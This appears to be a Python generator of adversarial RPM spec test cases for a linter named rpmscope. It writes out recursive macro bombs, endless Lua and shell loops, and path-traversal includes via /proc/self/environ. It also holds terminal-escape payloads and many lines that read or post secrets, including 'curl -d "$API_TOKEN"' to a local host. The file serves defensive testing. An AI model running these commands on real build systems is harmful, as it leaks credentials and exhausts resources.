"""Families of nasty specs: each takes its sizes from `sizes` and gives cases.

A path in a text is `@O@` for the folder outside and `@I@` for the spec's own. What a case must show (`shows`) proves that it does something.
"""
import dataclasses
import itertools

HEAD = "Name: x\nVersion: 1\nRelease: 1\nSummary: s\nLicense: MIT\n"
BODY = "%description\nd\n%build\ngo build -j4 ./...\n"


@dataclasses.dataclass
class Case:
    name: str
    spec: "str | bytes"
    # Beside the spec: bytes, text, or a link's target as `Link`.
    files: dict = dataclasses.field(default_factory=dict)
    shows: str = ""
    lacks: tuple = ()
    spec_name: str = "x.spec"
    # Every report is written, not only JSON.
    all_formats: bool = False


class Link(str):
    pass


def lua(code):
    return HEAD + "%description\n%{lua: " + code + "}\n" + "%build\ngo build -j4 ./...\n"


def conditions(sizes):
    for count in sizes(100, 10_000, 1_000_000):
        yield Case(f"{count} conditions", HEAD + "%if 1\n%endif\n" * count + BODY)
        yield Case(f"{count} dead conditions", HEAD + "%if 0\nx\n%endif\n" * count + BODY)
        yield Case(f"{count} conditions in each other", HEAD + "%if 1\n" * count + "%endif\n" * count + BODY)
        yield Case(f"{count} branches", HEAD + "%if 0\n" + "%elif 0\nx\n" * count + "%endif\n" + BODY)
        yield Case(f"{count} conditions with a command", HEAD + BODY + "".join(
            f"%if 0%{{?flag{n}}}\nexport GOCACHE=/tmp/c{n}\n%else\ngo build -j4 ./c{n}\n%endif\n" for n in range(min(count, 20_000))))
        yield Case(f"a condition of {count} terms", HEAD + "%if " + " || ".join(["0"] * count) + "\n%endif\n" + BODY)
        yield Case(f"a condition of {count} signs", HEAD + "%if " + "!" * count + "1\n%endif\n%if " + "-" * count + "1\n%endif\n" + BODY)
        yield Case(f"an expression of {count} parentheses", HEAD + "%global e %[" + "(" * count + "1" + ")" * count + "]\n" + BODY)
        yield Case(f"an expression of {count} questions", HEAD + "%global e %[" + "1 ? " * count + "1" + " : 1" * count + "]\n" + BODY)


def includes(sizes):
    for depth in sizes(8, 40, 400):
        chain = {f"i{n}": f"%include i{n + 1}\n" for n in range(depth)}
        yield Case(f"an include of depth {depth}", HEAD + "%include i0\n" + BODY, {**chain, f"i{depth}": "%global last 1\n"})
        tree = {f"i{n}": f"%include i{n + 1}\n%include i{n + 1}\n" for n in range(depth)}
        yield Case(f"a tree of includes of depth {depth}", HEAD + "%include i0\n" + BODY, {**tree, f"i{depth}": "%global last 1\n"})
        yield Case(f"{depth} loads", HEAD + "".join(f"%{{load:@I@/m{n}}}\n" for n in range(depth)) + BODY,
                   {f"m{n}": f"%x{n} %{{x{n + 1}}}\n" for n in range(depth)})
    for count in sizes(100, 2_000, 100_000):
        yield Case(f"{count} includes of a file", HEAD + "%include i\n" * count + BODY, {"i": "%global i 1\n"})
        yield Case(f"{count} sources", HEAD + "".join(f"Source{n}: s{n}\nPatch{n}: p{n}\n" for n in range(count)) + BODY)
    way_out = {"link": Link("@O@/secret"), "folder": Link("@O@"), "twice": Link("link"), "self": Link("self"), "proc": Link("/proc/self/environ")}
    for name in ("@O@/secret", "../outside/secret", "link", "folder/secret", "twice", "self", "proc", "/proc/self/environ", "/proc/self/fd/0",
                 "@I@/../outside/secret", "@I@//../outside/./secret", "/proc/self/root/@O@/secret", "/proc/self/cwd/../outside/secret", "/dev/stdin"):
        yield Case(f"an include of {name}", HEAD + f"%include {name}\n%description\n%{{?leaked}}\n", way_out, shows="missing-include")
        yield Case(f"a load of {name}", HEAD + f"%{{load:{name}}}\n%description\n%{{?leaked2}}\n", way_out)
        yield Case(f"sources and patches that are {name}", HEAD + f"Source0: {name}\nPatch0: {name}\n%prep\n%autosetup -p1\n%build\n. {name}\ngo build -j4\n", way_out)


def expansions(sizes):
    for depth in sizes(10, 100, 100_000):
        yield Case(f"%{{expand:}} of depth {depth}", HEAD + "%description\n" + "%{expand:" * depth + "x" + "}" * depth + "\n")
        yield Case(f"%{{shrink:}} of depth {depth}", HEAD + "%description\n" + "%{shrink:%{quote:" * depth + "x" + "}}" * depth + "\n")
        yield Case(f"a chain of {depth} macros", "".join(f"%global m{n} %%{{m{n + 1}}}\n" for n in range(depth)) + HEAD + "%description\n%m0\n")
        yield Case(f"a definition of depth {depth}", HEAD + "".join(f"%define d{n} %{{expand:%%define d{n + 1} x}}%{{d{n + 1}}}\n" for n in range(min(depth, 2000))) + "%d0\n" + BODY)
        yield Case(f"arguments of depth {depth}", "%define p(a:b) %{-a*}%{-b}%1%2%*\n" + HEAD + "%description\n" + "%{p -a %{p " * depth + "x" + "}}" * depth + "\n")
        yield Case(f"Lua in macros of depth {depth}", HEAD + "%description\n" + "%{lua: print(rpm.expand([==[" * 1 + "%{expand:" * depth + "}" * depth + "]==]))}\n")
        yield Case(f"{depth} unclosed braces", HEAD + "%description\n" + "%{?x:" * depth)
        yield Case(f"a body of {depth} lines", "%global body %{expand:\n" + "%global l x\n" * depth + "}\n" + HEAD + "%body\n" + BODY)
    for factor in sizes(2, 10, 100):
        bomb = "%define b0 xxxxxxxxxx\n" + "".join(f"%define b{n} " + f"%{{b{n - 1}}}" * factor + "\n" for n in range(1, 12))
        yield Case(f"an expansion that grows {factor} times a step", bomb + HEAD + "%description\n%{b11}\n%build\ngo build %{b11}\n")
        yield Case(f"sections of an expansion that grows {factor} times", bomb.replace("xxxxxxxxxx", "%{expand:\n%%build\ngo build\n}") + HEAD + "%b11\n")
    for macro in ("%define a %{expand:%%{a}}\n", "%define a() %{expand:%%{a %*x}}\n", "%define a %{lua:rpm.expand('%{a}')}\n", "%define a %[ %{a} ]\n",
                  "%define a %{?a:%a}%{!?a:%a}\n", "%define a() %{lua:rpm.define('a() %{a}') print(rpm.expand('%{a}'))}\n", "%define a %{expr:%{a}}\n"):
        yield Case(f"recursion by {macro.strip()}", macro + HEAD + "%description\n%a\n")


def lua_bombs(_):
    endless = {
        "a loop": "while true do end", "a goto": "::a:: goto a", "a recursion": "local function f() return f() end f()",
        "a deep recursion": "local function f() return 1 + f() end pcall(f) f()",
        "caught ends": "while true do pcall(error) end", "an xpcall of itself": "local function f() xpcall(f, f) end f()",
        "coroutines": "while true do coroutine.wrap(function() coroutine.yield() end)() end",
        "a coroutine in another": "local function f() coroutine.wrap(f)() end f()",
        "kept coroutines": "t = {} while true do t[#t+1] = coroutine.create(function() coroutine.yield() end) coroutine.resume(t[#t]) end",
        "a finalizer": "setmetatable({}, {__gc = function() while true do end end}) collectgarbage()",
        "a closing variable": "do local x <close> = setmetatable({}, {__close = function() while true do end end}) end",
        "an index": "local t = setmetatable({}, {}) getmetatable(t).__index = function(t, k) return t[k] end print(t.x)",
        "a comparison": "table.sort({1, 2, 3, 4, 5}, function() while true do end end)",
        "a pattern": "string.find(string.rep('a', 40), string.rep('a*', 40) .. 'b')",
        "a substitution": "string.gsub(string.rep('x', 1 << 24), '', string.rep('y', 1000))",
        "definitions": "local n = 0 while true do n = n + 1 rpm.define('m' .. n .. ' x') end",
        "expansions": "while true do rpm.expand('%{name}') end",
        "a line hook": "debug.sethook(function() while true do end end, 'l')",
        "its own debugger": "debug.debug()", "standard input": "for l in io.lines() do print(l) end",
    }
    memory = {
        "a table": "local t = {} while true do t[#t+1] = {} end", "a string": "local s = 'x' while true do s = s .. s end",
        "no garbage collection": "collectgarbage('stop') while true do local t = {('x'):rep(10000)} end",
        "a format": "print(string.format('%99d', 1):rep(1 << 28))", "a pack": "string.pack('!16 z', ('x'):rep(1 << 30))",
        "a concatenation": "table.concat({}, ('x'):rep(1 << 20), 1, 1 << 31)", "an unpack": "table.unpack({}, 1, 1e7)",
        "output": "while true do print(('x'):rep(1 << 20)) end", "output by io.write": "while true do io.write(('x'):rep(1 << 20)) end",
        "errors": "error(('x'):rep(1 << 28))", "warnings": "while true do rpm.expand('%{warn:x}') end",
        "a macro of its size": "rpm.define('m ' .. ('x'):rep(1 << 26)) print(rpm.expand(('%{m}'):rep(1000)))",
    }
    kinds = {**{f"Lua's time by {name}": code for name, code in endless.items()}, **{f"Lua's memory by {name}": code for name, code in memory.items()}}
    for name, code in kinds.items():
        yield Case(name, lua(code))


def secrets(_):
    for code in ("print(os.getenv('API_TOKEN'))", "print(posix.getenv('API_TOKEN'))", "for k, v in pairs(posix.getenv()) do print(k, v) end",
                 "print(#(os.getenv('API_TOKEN') or ''))", "print((os.getenv('API_TOKEN') or ''):reverse())",
                 "print(io.open('@O@/secret'):read('a'))", "for l in io.lines('@O@/secret') do print(l) end", "print(loadfile('@O@/secret'))",
                 "print(table.concat(posix.dir('@O@/folder') or {}))", "for n in posix.files('@O@/folder') do print(n) end",
                 "print(posix.readlink('/proc/self/cwd'))", "print(posix.stat('@O@/secret').size)", "print(rpm.load('@O@/secret')) print(rpm.expand('%leaked2'))",
                 "print(rpm.open('@O@/secret'):read())", "package.path='@O@/?' require('secret')", "print(package.searchpath('secret', '@O@/?'))",
                 "io.input('@O@/secret') print(io.read('a'))", "print(rpm.glob and table.concat(rpm.glob('@O@/folder/*')))", "error(os.getenv('API_TOKEN'))",
                 "print(posix.getpasswd(0, 'dir'))", "print(io.open('/proc/self/environ'):read('a'))", "print(io.open('/proc/1/environ'):read('a'))",
                 "print(io.open('/proc/self/fd/3'):read('a'))", "posix.setenv('GOFLAGS', os.getenv('API_TOKEN') or 'x')"):
        yield Case(f"a secret by Lua's {code[:60]}", lua(code), lacks=("20",) if "#(" in code else ("rellac-eht-fo",))
    for text in ("%{getenv:API_TOKEN}", "%(echo $API_TOKEN)", "%(printenv)", "%(cat @O@/secret)", "%(cat < @O@/secret)", "%(ls @O@/folder)", "%(. @O@/secret)",
                 "%{uncompress:@O@/secret}", "%{uncompress:/proc/self/environ}", "%(echo @O@/folder/*)", "%(cd @O@; echo *)", "%{echo:%{getenv:API_TOKEN}}",
                 "%{warn:%{getenv:API_TOKEN}}", "%{error:%{getenv:API_TOKEN}}", "%{basename:%{getenv:API_TOKEN}}", "%{S:%{getenv:API_TOKEN}}", "%{dump}", "%trace",
                 "%{exists:@O@/folder/*.txt}", "%(env | base64)", "%(sed s/x/x/ @O@/secret)", "%(awk '{print}' @O@/secret)",
                 "%(awk 'BEGIN{print ENVIRON[\"API_TOKEN\"]}')", "%(awk 'BEGIN{while ((getline l < \"@O@/secret\") > 0) print l}')", "%(grep . @O@/secret)",
                 "%(head -1 @O@/secret)", "%(read x < @O@/secret; echo $x)", "%(printf %s \"$(<@O@/secret)\")", "%(test -s @O@/secret && echo x)", "%(sh @O@/run.sh)",
                 "%(curl -d \"$API_TOKEN\" http://127.0.0.1:9/)", "%(echo ${API_TOKEN#c} ${!API_TOKEN} ${API_TOKEN:-x})", "%(set)", "%(export -p)", "%(declare -p)"):
        yield Case(f"a secret by {text[:60]}", f"%global s {text}\nName: x%{{s}}\nVersion: 1\nRelease: 1\nSummary: %{{s}}\nLicense: MIT\nSource0: http://127.0.0.1:9/%{{s}}\n"
                   f"%description\n{text}\n%build\n{text}\nexport GOFLAGS={text}\ngo build -j4 {text}\n%include {text}\n")
        command = text[2:-1] if text.startswith("%(") else f"echo {text}"
        yield Case(f"a secret in %build by {command[:60]}", HEAD + f"%description\n%build\nx=$({command})\nexport GOFLAGS=\"$x\" GOCACHE=$x\n{command}\ngo build -j4 $x\n")


def globs(sizes):
    for count in sizes(4, 12, 60):
        braces = "{a,b,c,d}" * count
        yield Case(f"{count} braces in %files", HEAD + f"%description\n%files\n/{braces}\n" + "%build\ngo build -j4\n")
        yield Case(f"{count} braces in a command", HEAD + f"%description\n%build\necho {braces}\nfor i in {braces}; do go build -j4 $i; done\n")
        yield Case(f"{count} stars", HEAD + "%description\n%build\nfor f in " + "/*" * count + " @O@/*/*; do go build -j4 $f; done\n%files\n" + "/*" * count + "\n")
        yield Case(f"a pattern of {count} stars", HEAD + "%description\n%build\nx=" + "a" * 5000 + "\ncase $x in " + "*a" * count + "*b) go build -j4;; esac\necho ${x##" + "*a" * count + "b}\n")
        yield Case(f"a regular expression of {count} groups", HEAD + "%global r %(echo " + "a" * 200 + " | sed -E 's/" + "(a*)*" * count + "b/x/')\n%global q %(echo "
                   + "a" * 200 + " | awk '/" + "(a|a)*" * count + "b/{print}')\n%global g %(echo " + "a" * 99 + " | grep -E '" + "(a+)+" * count + "b')\n" + BODY)
        yield Case(f"substitutions of depth {count}", HEAD + "%description\n%build\nx=" + "$(echo " * count + "x" + ")" * count + "\ny=" + "${x:-" * count + "y" + "}" * count + "\ngo build -j4 $x $y\n")
        yield Case(f"loops of depth {count}", HEAD + "%description\n%build\n" + "for i in 1 2 3 4; do\n" * count + "go build -j4 $i\n" + "done\n" * count)
        yield Case(f"a value that doubles {count} times", HEAD + "%description\n%build\nx=xxxxxxxxxx\n" + "x=$x$x\n" * count + "export GOFLAGS=$x\ngo build -j4\n")
        yield Case(f"functions that call {count} others", HEAD + "%description\n%build\n" + "".join(f"f{n}() {{ f{n + 1}; f{n + 1}; }}\n" for n in range(count)) + f"f{count}() {{ go build -j4; }}\nf0\n")
        yield Case(f"choices in {count} steps", HEAD + "%description\n%build\n" + "".join(f"if x{n}; then export GOFLAGS=\"$GOFLAGS -a{n}\"; else export GOCACHE=/c{n}; fi\n" for n in range(count)) + "go build -j4\n")
    for command in ("seq 1000000000", "seq 1 0.0000001 9", "printf '%999999999d' 1", "printf '%.999999999f' 1", "yes", "awk 'BEGIN{while(1);}'", "awk 'BEGIN{for(;;) s = s \"x\"}'",
                    "awk 'BEGIN{printf \"%999999999s\", \"x\"}'", "echo x | sed ':a;s/x/xx/;ta'", "echo x | sed ':a;ba'", "while :; do :; done", "f() { f; }; f", "f() { f | f; }; f",
                    "x=x; while :; do x=$x$x; done; echo $x", "echo {1..1000000000}", "echo $((1 << 9999999999)) $((2 ** 99999999))", "echo $((9 / 0)) $((-9223372036854775808 / -1))",
                    "head -c 1000000000000 /dev/zero", "cat /dev/zero", "printf %s $(seq 99999999)", "expr " + "1 + " * 5000 + "1", "date -d @99999999999999999999", "tr -dc a < /dev/urandom",
                    "echo x | cut -c1-99999999999999999999", "basename " + "/" * 99999, "sort /dev/zero", "until false; do :; done", "for ((;;)); do :; done", "eval eval eval $(eval echo eval)"):
        yield Case(f"a command that would not end: {command[:40]}", f"%global g %({command})\n{HEAD}%description\n%build\nx=$({command})\n{command}\ngo build -j4 $x\n")


PAYLOADS = {
    "a cleared screen": "\x1b[2J\x1b[H", "a link": "\x1b]8;;http://example.org\x07x\x1b]8;;\x07", "an 8-bit sequence": "\u009b31m", "a title": "\x1b]0;x\x07",
    "an overriding direction": "\u202etxet\u202c", "isolates": "\u2066\u2067x\u2069", "marks of direction": "\u200e\u200f", "a carriage return": "a\rb", "backspaces": "abc\b\b\b",
    "a workflow command": "::error file=x::y%0A::set-output name=a::b", "XML": "]]><x>&amp;<![CDATA[\"'", "a byte that is not UTF-8": "\udc9b\udcff\udc80", "a deletion": "\x7f\x7f",
    "line separators": "a\u2028b\u2029c\u0085d", "a NUL": "a\0b", "surrogates in UTF-8": "\udced\udca0\udc80", "a noncharacter": "\uffff\ufffe", "tags": "\U000e0041\U000e0042", "a form feed": "\x0c\x0b"}
PLACES = {
    "a tag's value": "Name: {}\nVersion: {}\nURL: {}\nLicense: {}\nRelease: {}\n%description\n", "a tag": HEAD + "{}: x\nX{}: y\n" + BODY, "an unknown macro": HEAD + "%nosuch{}\n%{{nosuch{}}}\n%{{{}}}\n" + BODY,
    "a macro's name and body": HEAD + "%define {} x\n%define m{} {}\n%global ok {}\n%description\n%ok\n", "a section": HEAD + BODY + "%build {}\n%nosuch{}\n%package -n {}\n%files -n {}\n",
    "an include": HEAD + "%include {}\n%{{load:{}}}\n%include @I@/{}\n" + BODY, "a condition": HEAD + "%if {}\n%endif\n%if \"{}\"\n%else\n%endif {}\n%global c %[{}]\n" + BODY,
    "rpm's own messages": HEAD + "%{{error:{}}}\n%{{warn:{}}}\n%{{echo:{}}}\n%{{lua:error('{}')}}\n%{{lua:{}}}\n" + BODY, "a suppression": HEAD + "# rpmscope: ignore {}\n# rpmscope: ignore[{}] {}\n" + BODY,
    "a command": HEAD + BODY + "export GOFLAGS='{}' GOCACHE='/tmp/{}' GOPROXY='{}'\ngo build -j4 '{}' -ldflags '{}'\ncd '{}'\ngo {}\ngo get '{}'\ngo mod download -p '{}'\n",
    "sources": HEAD + "Source0: {}\nSource1: http://{}/x.tar.gz\nPatch0: {}\nRequires: {}\nBuildRequires: golang({})\n%prep\n%setup -n {}\n%patch 0 -p{}\n" + BODY,
    "a changelog": HEAD + BODY + "%changelog\n* Mon Jan 01 2024 {} <{}> - {}\n- {}\n* {}\n", "an opaque command": HEAD + "%global o %(nosuch {})\n%description\n%o\n%build\ngo build -j4 %o %(curl {})\n"}


def escapes(_):
    for place, payload in itertools.product(PLACES, PAYLOADS):
        text = PLACES[place].replace("{{", "\x01").replace("}}", "\x02").replace("{}", PAYLOADS[payload]).replace("\x01", "{").replace("\x02", "}")
        yield Case(f"{payload} in {place}", text.encode("utf-8", "surrogateescape"), all_formats=True)
    for payload, text in PAYLOADS.items():
        if "\0" not in text:
            name = text.replace("/", "_")
            # A name is at fault in every report.
            yield Case(f"{payload} in a file's name", HEAD + f"%include {name}.inc\nSource0: {name}.tar\n" + BODY, {f"{name}.inc": "%nosuch_macro\ngo build\n"},
                       spec_name=f"{name}.spec", all_formats=True)


def shapes(sizes):
    for count in sizes(1000, 100_000, 3_000_000):
        yield Case(f"a line of {count} bytes", HEAD + "%description\n" + "x" * count + "\n%build\ngo build " + "-x " * (count // 3) + "\n")
        yield Case(f"{count} line feeds", HEAD + BODY + "\n" * count)
        yield Case(f"{count} continued lines", HEAD + "%description\n%build\ngo build \\\n" + "-x \\\n" * count + "\n")
        yield Case(f"{count} go commands", HEAD + BODY + "go build -j4 ./x\n" * count)
        yield Case(f"{count} fixable commands", HEAD + BODY + "".join(f"go build -a ./x{n}\n" for n in range(count)))
        yield Case(f"{count} sections", HEAD + "%description\n" + "".join(f"%package -n p{n}\nSummary: s\n%description -n p{n}\n" for n in range(count)) + BODY)
        yield Case(f"{count} definitions", "".join(f"%global d{n} %{{?d{n - 1}}}x\n" for n in range(count)) + HEAD + BODY)
        yield Case(f"{count} here-documents", HEAD + BODY + "cat <<A <<B\n" * count)
        yield Case(f"{count} quotes", HEAD + BODY + "echo \"'\"'" * count + "\n")
        yield Case(f"{count} NULs", HEAD + BODY + "\0" * count)
        yield Case(f"{count} open parentheses in a command", HEAD + BODY + "(" * count + "\n" + "$((" * count + "\n" + "{ " * count)
        yield Case(f"{count} pipes", HEAD + BODY + "go build " + "| go build -j4 " * count + "\n")
        yield Case(f"{count} flags", HEAD + f"%description\n%build\nexport GOFLAGS='" + "-tags=x " * count + "'\ngo build -ldflags \"" + "-X a=b " * count + "\"\n")
        yield Case(f"{count} changes of directory", HEAD + BODY + "cd ..\npushd x\n" * count + "go build -j4\n")
        yield Case(f"{count} ignores", HEAD + BODY + "# rpmscope: ignore\n# rpmscope: ignore[rejected-flag]\n" * count)
        yield Case(f"{count} changes", HEAD + BODY + "%changelog\n" + "* Mon Jan 01 2024 a <a@b> - 1\n- x\n" * count)
        yield Case(f"{count} requirements", HEAD + "Requires: " + "(a if " * count + "b" + ")" * count + "\nBuildRequires: " + "a, " * count + "b\n" + BODY)


FAMILIES = [conditions, includes, expansions, lua_bombs, secrets, globs, escapes, shapes]
